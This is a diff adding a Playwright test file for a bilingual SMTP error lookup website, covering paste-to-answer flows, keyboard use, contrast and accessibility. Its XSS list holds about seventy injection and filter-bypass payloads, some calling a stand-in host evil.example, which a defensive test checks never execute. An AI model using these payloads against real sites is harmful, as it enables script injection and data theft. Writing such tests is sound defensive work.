@@ -1,0 +1,383 @@
+"""A real browser on a real server: paste to answer in both languages, with and without JavaScript, by keyboard, hostile input."""
+
+from __future__ import annotations
+
+import re
+from collections.abc import Callable, Iterator
+from dataclasses import dataclass, field
+from itertools import pairwise
+
+import pytest
+from conftest import chromium
+
+pytest.importorskip("playwright.sync_api", reason="playwright is not installed: pip install 'smtp-kb[browser]'")
+
+from playwright.sync_api import Browser, BrowserContext, ConsoleMessage, Page, Request, expect, sync_playwright
+
+pytestmark = pytest.mark.browser
+
+TEXT = "error response to AUTH command: unencrypted connection"
+ENTRY = "auth-unencrypted-connection"
+LANGS = ("zh", "en")
+LANG_OF_HTML = {"zh": "zh-Hans", "en": "en"}
+SIZES = (320, 768, 1440)
+FLAGS = [
+    "--no-sandbox",
+    "--disable-gpu",
+    "--disable-quic",
+    "--no-first-run",
+    "--disable-background-networking",
+    "--disable-component-update",
+    "--disable-sync",
+]
+LOG = f"""Jul 20 16:51:26 mail postfix/smtpd[1]: connect from unknown[192.0.2.10]
+mailpit-1  | time="2026/07/20 16:51:26" level=error msg="[relay] error: {TEXT}"
+{"x" * 400}
+{"中" * 200}
+"""
+PATHS = {
+    "home": "/{lang}/",
+    "answer": f"/{{lang}}/lookup?q={TEXT.replace(' ', '+')}",
+    "no answer": f"/{{lang}}/lookup?q={'long' * 100}",
+    "entry": f"/{{lang}}/errors/{ENTRY}",
+    "errors": "/{lang}/errors/",
+    "articles": "/{lang}/articles/",
+    "codes": "/{lang}/codes/",
+    "code": "/{lang}/codes/5.7.1",
+    "search": "/{lang}/search?q=smtpd_tls_auth_only",
+    "problem": "/{lang}/nowhere",
+}
+XSS = [
+    *(f"<script>{run}</script>" for run in ("alert(1)", "window.pwned=1", "fetch('https://evil.example')")),
+    "<script src=https://evil.example/x.js></script>",
+    "<ScRiPt>window.pwned=1</sCrIpT>",
+    "<script\n>window.pwned=1</script\n>",
+    "<scr<script>ipt>window.pwned=1</scr</script>ipt>",
+    "</pre><script>window.pwned=1</script>",
+    "</textarea><script>window.pwned=1</script>",
+    "</title><script>window.pwned=1</script>",
+    "</style><script>window.pwned=1</script>",
+    "--><script>window.pwned=1</script>",
+    "]]><script>window.pwned=1</script>",
+    '"><script>window.pwned=1</script>',
+    "'><script>window.pwned=1</script>",
+    "</mark></pre><img src=x onerror=window.pwned=1>",
+    "<img src=x onerror=window.pwned=1>",
+    "<img src=x onerror=alert(1)//",
+    "<img/src=x/onerror=window.pwned=1>",
+    "<IMG SRC=x ONERROR=window.pwned=1>",
+    '<img src="x` `<script>window.pwned=1</script>"` `>',
+    "<img src='https://evil.example/pixel.png'>",
+    "<svg onload=window.pwned=1>",
+    "<svg/onload=window.pwned=1>",
+    "<svg><script>window.pwned=1</script></svg>",
+    "<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s>",
+    "<svg><a xlink:href=javascript:window.pwned=1><text>x</text></a></svg>",
+    "<svg><foreignObject><iframe srcdoc='<script>parent.pwned=1</script>'></foreignObject></svg>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=1>",
+    "<math href=javascript:window.pwned=1>x</math>",
+    "<body onload=window.pwned=1>",
+    "<body onpageshow=window.pwned=1>",
+    "<details open ontoggle=window.pwned=1>",
+    "<input autofocus onfocus=window.pwned=1>",
+    "<select autofocus onfocus=window.pwned=1>",
+    "<textarea autofocus onfocus=window.pwned=1>",
+    "<video src=x onerror=window.pwned=1></video>",
+    "<audio src=x onerror=window.pwned=1></audio>",
+    "<video><source onerror=window.pwned=1></video>",
+    "<marquee onstart=window.pwned=1>",
+    "<iframe src=javascript:parent.pwned=1></iframe>",
+    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
+    "<iframe src=https://evil.example/></iframe>",
+    "<embed src=javascript:window.pwned=1>",
+    "<object data=javascript:window.pwned=1></object>",
+    "<object data=https://evil.example/></object>",
+    "<base href=https://evil.example/>",
+    "<link rel=stylesheet href=https://evil.example/x.css>",
+    "<style>@import 'https://evil.example/x.css';</style>",
+    "<style>body{background:url(https://evil.example/x)}</style>",
+    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
+    "<meta http-equiv=refresh content='0;url=javascript:window.pwned=1'>",
+    "<form action=https://evil.example/><button autofocus>x</button></form>",
+    "<a href=javascript:window.pwned=1 autofocus>x</a>",
+    "<p style='background:url(https://evil.example/x)'>",
+    "<div onmouseover=window.pwned=1 style='position:fixed;inset:0'>x</div>",
+    "<template><script>window.pwned=1</script></template>",
+    "<noscript><p title='</noscript><img src=x onerror=window.pwned=1>'>",
+    "<portal src=https://evil.example/>",
+    "{{ 7*7 }}{% raw %}{{ config }}",
+    "${window.pwned=1}`${window.pwned=1}`",
+    "javascript:window.pwned=1",
+    "data:text/html,<script>window.pwned=1</script>",
+    "&lt;script&gt;window.pwned=1&lt;/script&gt;",
+    "&#60;script&#62;window.pwned=1&#60;/script&#62;",
+    "\\u003cscript\\u003ewindow.pwned=1\\u003c/script\\u003e",
+    "%3Cscript%3Ewindow.pwned=1%3C/script%3E",
+    "\ufdd1<script>window.pwned=1</script>\ufdd2",
+    "+ADw-script+AD4-window.pwned=1+ADw-/script+AD4-",
+    "<\x00script>window.pwned=1</script>",
+    "＜script＞window.pwned=1＜/script＞",
+    "[x](javascript:window.pwned=1) ![x](https://evil.example/x.png) <https://evil.example/>",
+]
+
+
+@dataclass
+class Watched:
+    """A page and everything it did that it should not."""
+
+    page: Page
+    address: str
+    faults: list[str] = field(default_factory=list)
+
+    def open(self, path: str) -> Page:
+        self.page.goto(self.address + path)
+        return self.page
+
+    def console(self, message: ConsoleMessage) -> None:
+        if message.type in ("error", "warning") and "status of 404" not in message.text:
+            self.faults.append(f"console: {message.text}")
+
+    def request(self, request: Request) -> None:
+        if not request.url.startswith((self.address, "about:blank")):
+            self.faults.append(f"request: {request.url}")
+
+
+@pytest.fixture(scope="module")
+def browser() -> Iterator[Browser]:
+    with sync_playwright() as playwright:
+        browser = playwright.chromium.launch(executable_path=chromium(), args=FLAGS)
+        yield browser
+        browser.close()
+
+
+@pytest.fixture
+def visit(browser: Browser, server: str) -> Iterator[Callable[..., Watched]]:
+    """Opens watched pages; when the test is over, none may have misbehaved."""
+    contexts: list[BrowserContext] = []
+    all_watched: list[Watched] = []
+
+    def new(**options: object) -> Watched:
+        context = browser.new_context(**options)  # type: ignore[arg-type]
+        context.set_default_timeout(10_000)
+        contexts.append(context)
+        watched = Watched(context.new_page(), server)
+        watched.page.on("console", watched.console)
+        watched.page.on("request", watched.request)
+        watched.page.on("pageerror", lambda error: watched.faults.append(f"error: {error}"))
+        watched.page.on("dialog", lambda dialog: (watched.faults.append(f"dialog: {dialog.message}"), dialog.dismiss()))
+        context.on("page", lambda page: watched.faults.append(f"window: {page.url}"))
+        all_watched.append(watched)
+        return watched
+
+    yield new
+    for context in contexts:
+        context.close()
+    assert [fault for watched in all_watched for fault in watched.faults] == []
+
+
+@pytest.mark.parametrize("javascript", [True, False], ids=["with JavaScript", "without JavaScript"])
+@pytest.mark.parametrize("lang", LANGS)
+def test_from_paste_to_answer(visit: Callable[..., Watched], lang: str, javascript: bool) -> None:
+    page = visit(java_script_enabled=javascript).open(f"/{lang}/")
+    page.get_by_role("textbox").and_(page.locator("textarea")).fill(LOG)
+    page.locator(".paste button").click()
+    expect(page).to_have_url(re.compile(f"/{lang}/lookup$"))
+    expect(page.locator("html")).to_have_attribute("lang", LANG_OF_HTML[lang])
+    expect(page.locator(f"a[href='/{lang}/errors/{ENTRY}']")).to_be_visible()
+    expect(page.locator("#fix")).to_be_visible()
+    assert "unencrypted connection" in page.locator("pre.pasted mark").inner_text()
+    assert page.locator("pre.pasted").inner_text().strip().startswith("Jul 20 16:51:26 mail postfix/smtpd[1]")
+
+
+@pytest.mark.parametrize("javascript", [True, False], ids=["with JavaScript", "without JavaScript"])
+def test_examples_search_and_language_switch_work(visit: Callable[..., Watched], javascript: bool) -> None:
+    watched = visit(java_script_enabled=javascript, locale="zh-CN")
+    page = watched.open("/")
+    expect(page).to_have_url(re.compile("/zh/$"))
+    page.locator(".try a").first.click()
+    expect(page.locator("article.answer h1")).to_be_visible()
+    page.locator("header a.language").click()
+    expect(page).to_have_url(re.compile("/en/lookup"))
+    expect(page.locator("article.answer h1")).to_be_visible()
+    page.get_by_role("searchbox").fill("smtpd_tls_auth_only")
+    page.keyboard.press("Enter")
+    expect(page).to_have_url(re.compile("/en/search"))
+    page.locator(".cards a").first.click()
+    expect(page.locator("h1")).to_be_visible()
+    page.locator("header a.language").click()
+    expect(page).to_have_url(re.compile(f"{watched.address}/zh/"))
+    expect(page.locator("html")).to_have_attribute("lang", "zh-Hans")
+
+
+@pytest.mark.parametrize("lang", LANGS)
+def test_copy_button(visit: Callable[..., Watched], lang: str) -> None:
+    watched = visit(permissions=["clipboard-read", "clipboard-write"])
+    page = watched.open(f"/{lang}/errors/{ENTRY}")
+    block = page.locator("pre.copy").first
+    button = block.get_by_role("button")
+    before = button.inner_text()
+    button.click()
+    expect(button).not_to_have_text(before)
+    copied = page.evaluate("navigator.clipboard.readText()")
+    assert copied == block.locator("code").text_content()
+    assert before not in copied
+    expect(button).to_have_text(before)
+
+
+def test_there_is_no_copy_button_without_javascript(visit: Callable[..., Watched]) -> None:
+    page = visit(java_script_enabled=False).open(f"/en/errors/{ENTRY}")
+    expect(page.locator("pre.copy").first).to_be_visible()
+    expect(page.locator("pre.copy button")).to_have_count(0)
+
+
+@pytest.mark.parametrize("lang", LANGS)
+def test_keyboard_only(visit: Callable[..., Watched], lang: str) -> None:
+    page = visit().open(f"/{lang}/")
+    seen = []
+    for _ in range(20):
+        page.keyboard.press("Tab")
+        seen.append(page.evaluate("document.activeElement.className || document.activeElement.tagName"))
+        assert page.evaluate("getComputedStyle(document.activeElement).outlineStyle") != "none"
+        if page.evaluate("document.activeElement.tagName") == "TEXTAREA":
+            break
+    assert seen[0] == "skip"
+    assert seen[-1] == "TEXTAREA"
+    page.keyboard.insert_text(TEXT)
+    page.keyboard.press("Tab")
+    page.keyboard.press("Enter")
+    expect(page.locator("article.answer h1")).to_be_visible()
+
+
+def test_skip_link(visit: Callable[..., Watched]) -> None:
+    page = visit().open("/en/")
+    page.keyboard.press("Tab")
+    expect(page.locator("a.skip")).to_be_in_viewport()
+    page.keyboard.press("Enter")
+    page.keyboard.press("Tab")
+    assert page.evaluate("document.querySelector('main').contains(document.activeElement)")
+
+
+@pytest.mark.parametrize("keys", ["Control+Enter", "Meta+Enter"])
+def test_control_enter_submits(visit: Callable[..., Watched], keys: str) -> None:
+    page = visit().open("/en/")
+    page.locator("textarea").fill(TEXT)
+    page.locator("textarea").press("Enter")
+    expect(page).to_have_url(re.compile("/en/$"))
+    page.locator("textarea").press(keys)
+    expect(page.locator("article.answer h1")).to_be_visible()
+
+
+def test_an_empty_box_is_not_sent(visit: Callable[..., Watched]) -> None:
+    page = visit().open("/en/")
+    page.locator(".paste button").click()
+    expect(page).to_have_url(re.compile("/en/$"))
+
+
+def test_nothing_is_kept_in_the_browser(visit: Callable[..., Watched]) -> None:
+    page = visit().open("/en/")
+    page.locator("textarea").fill(TEXT)
+    page.locator(".paste button").click()
+    expect(page.locator("article.answer h1")).to_be_visible()
+    assert page.context.cookies() == []
+    assert page.evaluate("[localStorage.length, sessionStorage.length]") == [0, 0]
+    assert "unencrypted" not in page.url
+
+
+@pytest.mark.parametrize("scheme", ["light", "dark"])
+@pytest.mark.parametrize("lang", LANGS)
+@pytest.mark.parametrize("width", SIZES)
+def test_no_page_scrolls_sideways(visit: Callable[..., Watched], width: int, lang: str, scheme: str) -> None:
+    watched = visit(viewport={"width": width, "height": 800}, color_scheme=scheme)
+    articles = watched.open(f"/{lang}/articles/").locator(".cards a")
+    paths = [path.format(lang=lang) for path in PATHS.values()]
+    paths += [link.get_attribute("href") or "" for link in articles.all()]
+    wide = []
+    for path in paths:
+        page = watched.open(path)
+        if page.evaluate("document.documentElement.scrollWidth") > width:
+            wide.append(path)
+    watched.open(f"/{lang}/").locator("textarea").fill(LOG)
+    watched.page.locator(".paste button").click()
+    expect(watched.page.locator("pre.pasted")).to_be_visible()
+    if watched.page.evaluate("document.documentElement.scrollWidth") > width:
+        wide.append("answer to a log")
+    assert wide == []
+
+
+CONTRAST = """() => {
+  const canvas = document.createElement("canvas").getContext("2d", {willReadFrequently: true});
+  const rgb = (color) => { canvas.clearRect(0, 0, 1, 1); canvas.fillStyle = color; canvas.fillRect(0, 0, 1, 1);
+    return [...canvas.getImageData(0, 0, 1, 1).data]; };
+  const luminance = (c) => { const [r, g, b] = c.slice(0, 3).map((v) => { v /= 255;
+    return v <= 0.03928 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4; }); return 0.2126 * r + 0.7152 * g + 0.0722 * b; };
+  const under = (node) => { for (; node; node = node.parentElement) {
+    const c = rgb(getComputedStyle(node).backgroundColor); if (c[3] === 255) return c; } return [255, 255, 255, 255]; };
+  const low = [];
+  for (const node of document.querySelectorAll("body *")) {
+    const own = [...node.childNodes].some((child) => child.nodeType === 3 && child.textContent.trim());
+    if (!own || !node.getClientRects().length) continue;
+    const [a, b] = [luminance(rgb(getComputedStyle(node).color)), luminance(under(node))];
+    const ratio = (Math.max(a, b) + 0.05) / (Math.min(a, b) + 0.05);
+    if (ratio < 4.5) low.push(`${node.tagName}.${node.className} ${ratio.toFixed(2)} ${node.textContent.slice(0, 40)}`);
+  }
+  return low;
+}"""
+
+
+@pytest.mark.parametrize("scheme", ["light", "dark"])
+def test_text_stands_out(visit: Callable[..., Watched], scheme: str) -> None:
+    """Contrast of at least 4.5 (WCAG 1.4.3), and light and dark differ."""
+    watched = visit(color_scheme=scheme)
+    for path in PATHS.values():
+        page = watched.open(path.format(lang="zh"))
+        assert page.evaluate(CONTRAST) == []
+    dark = sum(map(int, re.findall(r"\d+", page.evaluate("getComputedStyle(document.body).backgroundColor"))[:3])) < 384
+    assert dark is (scheme == "dark")
+
+
+@pytest.mark.parametrize("lang", LANGS)
+def test_what_assistive_technology_needs(visit: Callable[..., Watched], lang: str) -> None:
+    watched = visit()
+    for path in PATHS.values():
+        page = watched.open(path.format(lang=lang))
+        assert page.locator("h1").count() == 1
+        assert page.locator("main").count() == 1
+        unnamed = page.evaluate("""() => [...document.querySelectorAll("input, textarea, button, a")].filter((node) =>
+            !(node.textContent.trim() || node.ariaLabel || node.labels?.length)).map((node) => node.outerHTML)""")
+        assert unnamed == []
+        ids = page.evaluate("[...document.querySelectorAll('[id]')].map((node) => node.id)")
+        assert len(ids) == len(set(ids))
+        levels = page.evaluate("[...document.querySelectorAll('h1,h2,h3,h4')].map((node) => Number(node.tagName[1]))")
+        assert all(after - before <= 1 for before, after in pairwise(levels)), (path, levels)
+
+
+def test_the_payloads_are_many() -> None:
+    assert len(XSS) == len(set(XSS)) >= 58
+
+
+def _is_untouched(page: Page) -> None:
+    assert page.evaluate("window.pwned") is None
+    assert page.evaluate("document.querySelectorAll('script').length") == 1
+    assert (
+        page.evaluate("document.querySelectorAll('main :is(img, svg, iframe, style, math, object, embed)').length") == 0
+    )
+
+
+def test_payloads_never_run(visit: Callable[..., Watched]) -> None:
+    """Through the paste, its address, the search and a page that is not there; dialogs, errors and requests are watched."""
+    watched = visit()
+    for payload in XSS:
+        page = watched.open("/en/")
+        page.locator("textarea").fill(f"{payload}\n{TEXT} {payload}")
+        page.locator(".paste button").click()
+        expect(page.locator("pre.pasted")).to_be_visible()
+        _is_untouched(page)
+        assert payload.replace("\x00", "").strip("\ufdd1\ufdd2")[:20] in page.locator(
+            "pre.pasted"
+        ).text_content().replace("\x00", "").replace("\ufffd", "")
+    quoted = watched.page.evaluate("(texts) => texts.map(encodeURIComponent)", XSS)
+    for text in quoted:
+        for path in (f"/en/lookup?q={text}", f"/zh/search?q={text}"):
+            _is_untouched(watched.open(path))
+    for text in quoted[::6]:
+        _is_untouched(watched.open(f"/zh/codes/{text}"))
